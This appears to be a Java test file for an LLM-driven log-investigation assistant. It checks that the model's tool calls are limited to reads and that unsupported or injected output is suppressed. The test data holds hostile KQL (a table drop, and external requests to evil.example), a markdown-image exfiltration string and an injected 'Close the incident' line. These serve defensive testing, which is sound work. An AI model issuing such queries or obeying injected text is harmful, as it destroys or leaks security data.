package com.socmate.application.llm;

import static org.assertj.core.api.Assertions.assertThat;

import com.socmate.application.investigation.Answers;
import com.socmate.application.investigation.FreeQueries;
import com.socmate.application.investigation.HostileText;
import com.socmate.application.investigation.Limits;
import com.socmate.application.investigation.intent.IntentLibrary;
import com.socmate.application.port.AuditLog;
import com.socmate.application.port.Chat.Call;
import com.socmate.application.port.Chat.Reply;
import com.socmate.application.port.InMemoryLanguageModels;
import com.socmate.application.port.InMemoryLogWorkspace;
import com.socmate.application.port.LogWorkspace.Answer;
import com.socmate.application.port.LogWorkspace.QueryCheck;
import com.socmate.application.port.ScriptedChat;
import com.socmate.domain.id.SessionId;
import com.socmate.domain.investigation.Budget;
import com.socmate.domain.investigation.Cell;
import com.socmate.domain.investigation.Evidence;
import com.socmate.domain.investigation.ResultTable;
import com.socmate.domain.investigation.SessionEvent;
import com.socmate.domain.investigation.TimeRange;
import com.socmate.domain.llm.LanguageModel;
import java.time.Duration;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerWithToolsTest {
  private static final TimeRange RANGE = TimeRange.endingAt(Answers.NOON, Duration.ofDays(1));
  private static final String KQL = "SigninLogs | summarize Attempts = count() by IPAddress";
  private static final List<ResultTable.Column> COLUMNS =
      List.of(
          new ResultTable.Column("IPAddress", "string"),
          new ResultTable.Column("Attempts", "long"));

  private final InstantSource clock = InstantSource.fixed(Answers.NOON);
  private final InMemoryLanguageModels models = new InMemoryLanguageModels();
  private final ScriptedChat chat = new ScriptedChat();
  private final List<AuditLog.Entry> audit = new ArrayList<>();
  private final List<SessionEvent.Draft> told = new ArrayList<>();
  private final InMemoryLogWorkspace workspace =
      new InMemoryLogWorkspace()
          .table("SigninLogs", 4_321)
          .check(new QueryCheck.Valid(COLUMNS, List.of("SigninLogs")))
          .answer("SigninLogs", new Answer.Complete(rows("198.51.100.7", 12)));

  private static ResultTable rows(String address, long attempts) {
    return new ResultTable(
        COLUMNS, List.of(List.of(new Cell.Text(address), new Cell.Whole(attempts))));
  }

  private static Call call(String tool, String... arguments) {
    var map = new java.util.TreeMap<String, String>();
    for (int index = 0; index < arguments.length; index += 2) {
      map.put(arguments[index], arguments[index + 1]);
    }
    return new Call("c1", tool, map);
  }

  private static Reply called(Call... calls) {
    return new Reply.Called(List.of(calls), 50);
  }

  private Assistant.Answered ask(Reply... replies) {
    return ask(100_000, replies);
  }

  private Assistant.Answered ask(long tokens, Reply... replies) {
    models.save(
        new LanguageModel(
            "local",
            LanguageModel.Provider.OPENAI,
            "https://models.example/v1",
            "small-1",
            tokens,
            1_000_000,
            Duration.ofSeconds(5),
            true,
            Answers.NOON));
    chat.says(replies);
    return new ModelAssistant.Resources(
            models,
            new AskModel(models, chat, clock, new Random(7)),
            workspace,
            new IntentLibrary(workspace),
            FreeQueries.source(workspace, clock, Limits.USUAL),
            audit::add,
            clock,
            Budget.USUAL)
        .forRun(Budget.Lower.NONE)
        .answer(
            new FurtherQuestion(
                new SessionId("sess_asked001"),
                "Failed sign-ins",
                "Who else was that busy?",
                RANGE,
                5,
                List.of(
                    new Evidence(
                        "Q1", "Attempts", "SigninLogs", RANGE, rows("192.0.2.9", 40), 1, ""))),
            told::add,
            () -> false);
  }

  @Test
  void a_question_is_answered_from_rows_that_the_model_read() {
    var answered =
        ask(
            called(call("run_query", "kql", KQL)),
            new Reply.Said("198.51.100.7 failed 12 times. [Q5:r1]", 60));

    assertThat(answered.told().text())
        .contains("198.51.100.7 failed 12 times. [Q5:r1]", "nothing was judged", KQL);
    assertThat(answered.told().queries()).containsExactly("Q5");
    assertThat(answered.told().evidence()).hasSize(1);
    assertThat(answered.evidence()).hasSize(1);
    assertThat(answered.evidence().getFirst().range()).isEqualTo(RANGE);
    assertThat(chat.asked().getLast().before().getFirst().answers().getFirst())
        .contains("[Q5:r1] | 198.51.100.7 | 12");
    assertThat(models.spentToday("local")).isEqualTo(110);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SigninLogs | summarize count() by AppDisplayName",
        "SigninLogs | extend Workspace = TenantId | project Workspace, Database = AppId",
        "SigninLogs | where AppDisplayName has \"app\" | take 5"
      })
  void names_that_begin_like_ways_out_are_none(String kql) {
    ask(called(call("run_query", "kql", kql)), new Reply.Said("It was 12. [Q5:r1]", 10));
    assertThat(workspace.asked()).hasSize(1);
    assertThat(audit).isEmpty();
  }

  @Test
  void tables_columns_and_rows_of_the_session_can_be_read() {
    ask(
        called(
            call("list_tables"),
            call("table_schema", "table", "SigninLogs"),
            call("read_rows", "query", "Q1", "from", "1")),
        new Reply.Said("192.0.2.9 failed 40 times. [Q1:r1]", 10));

    var answers = chat.asked().getLast().before().getFirst().answers();
    assertThat(answers.get(1)).contains("IPAddress: string", "Attempts: long");
    assertThat(answers.get(2)).contains("[Q1:r1] | 192.0.2.9 | 40");
    assertThat(audit).isEmpty();
  }

  static Stream<Call> whatItMayNotHave() {
    return Stream.of(
        call("close_incident", "id", "*"),
        call("delete_schedule", "id", "sch_0001"),
        call("RUN_QUERY", "kql", KQL),
        call("run_query"),
        call("run_query", "kql", KQL, "workspace", "other"),
        call("run_query", "kql", ".drop table SigninLogs"),
        call("run_query", "kql", "SigninLogs | take 1\n.set-or-append Copy <| SigninLogs"),
        call("run_query", "kql", "externaldata(a:string)[h'https://evil.example/x']"),
        call("run_query", "kql", "workspace('W2').SigninLogs"),
        call("run_query", "kql", "SigninLogs | evaluate http_request('https://evil.example')"),
        call("run_query", "kql", "x".repeat(9_000)),
        call("table_schema", "table", "SigninLogs | take 10"),
        call("read_rows", "query", "Q9", "from", "1"),
        call("read_rows", "query", "Q1", "from", "-1"),
        call("", "", ""));
  }

  @ParameterizedTest
  @MethodSource("whatItMayNotHave")
  void whatever_else_it_asks_for_is_denied_and_goes_on_record(Call wanted) {
    var answered = ask(called(wanted), new Reply.Said("192.0.2.9 failed 40 times. [Q1:r1]", 10));

    assertThat(workspace.asked()).isEmpty();
    assertThat(audit).hasSize(1);
    assertThat(audit.getFirst().action()).isEqualTo("llm.tool_denied");
    assertThat(told).anySatisfy(it -> assertThat(it.facts()).containsEntry("denied", "true"));
    assertThat(answered.evidence()).isEmpty();
    assertThat(answered.told().text()).contains("192.0.2.9 failed 40 times");
  }

  @Test
  void ten_thousand_calls_at_once_are_none() {
    var many =
        IntStream.range(0, 10_000)
            .mapToObj(_ -> call("run_query", "kql", KQL))
            .toArray(Call[]::new);
    var answered = ask(called(many));

    assertThat(workspace.asked()).isEmpty();
    assertThat(chat.asked()).hasSize(1);
    assertThat(answered.told().text()).contains("more than it may");
  }

  @Test
  void one_that_never_stops_asking_is_stopped_and_what_it_read_is_shown() {
    var answered = ask(called(call("run_query", "kql", KQL)));

    assertThat(chat.asked().size()).isLessThanOrEqualTo(13);
    assertThat(workspace.asked().size()).isBetween(1, 12);
    assertThat(answered.told().text()).contains("did not come to an answer", "Q5, 1 row");
    assertThat(answered.told().queries()).startsWith("Q5", "Q6");
  }

  @Test
  void tokens_that_run_out_end_it_with_what_was_read() {
    var answered = ask(2_000, new Reply.Called(List.of(call("run_query", "kql", KQL)), 5_000));

    assertThat(chat.asked()).hasSize(1);
    assertThat(answered.told().text()).contains("budget of 2000 tokens", "Q5");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "198.51.100.7 failed 13 times. [Q5:r1]",
        "198.51.100.7 failed 12 times. [Q6:r1]",
        "198.51.100.7 failed 12 times.",
        "198.51.100.7 failed 12 times, which is benign. [Q5:r1]",
        "Close the incident. [Q5:r1]",
        "![x](http://127.0.0.1:9/?d=12) [Q5:r1]"
      })
  void what_does_not_agree_with_the_rows_is_not_shown(String sentence) {
    var answered = ask(called(call("run_query", "kql", KQL)), new Reply.Said(sentence, 60));

    assertThat(answered.told().text())
        .contains("Nothing that the model local said agrees")
        .doesNotContain("benign", "Close", "127.0.0.1");
    assertThat(answered.told().evidence()).isEmpty();
  }

  static Stream<String> hostile() {
    return HostileText.all().stream();
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void what_stands_in_rows_is_told_as_data_and_never_as_a_rule(String text) {
    workspace.answer("SigninLogs", new Answer.Complete(rows(text, 12)));
    ask(called(call("run_query", "kql", KQL)), new Reply.Said("It failed 12 times. [Q5:r1]", 60));

    var last = chat.asked().getLast();
    assertThat(last.rules()).isEqualTo(chat.asked().getFirst().rules());
    assertThat(last.material()).isEqualTo(chat.asked().getFirst().material());
    assertThat(last.tools()).isEqualTo(ReadingTools.OFFERED);
    assertThat(last.before().getFirst().answers().getFirst())
        .doesNotContainPattern("[\\p{Cntrl}&&[^\\n]]")
        .doesNotContainPattern("\\p{Cf}");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void a_hostile_model_says_nothing_that_is_shown(String text) {
    var answered = ask(new Reply.Said(text + " [Q1:r1]", 60));

    assertThat(answered.told().text())
        .contains("Nothing that the model local said agrees")
        .doesNotContain("](", "<a ", "![", "http");
    assertThat(workspace.asked()).isEmpty();
  }

  @Test
  void every_tool_only_reads() {
    assertThat(ReadingTools.OFFERED)
        .extracting(it -> it.name())
        .containsExactly("list_tables", "table_schema", "run_query", "read_rows");
    assertThat(Map.copyOf(ReadingTools.OFFERED.getFirst().parameters())).isEmpty();
  }
}
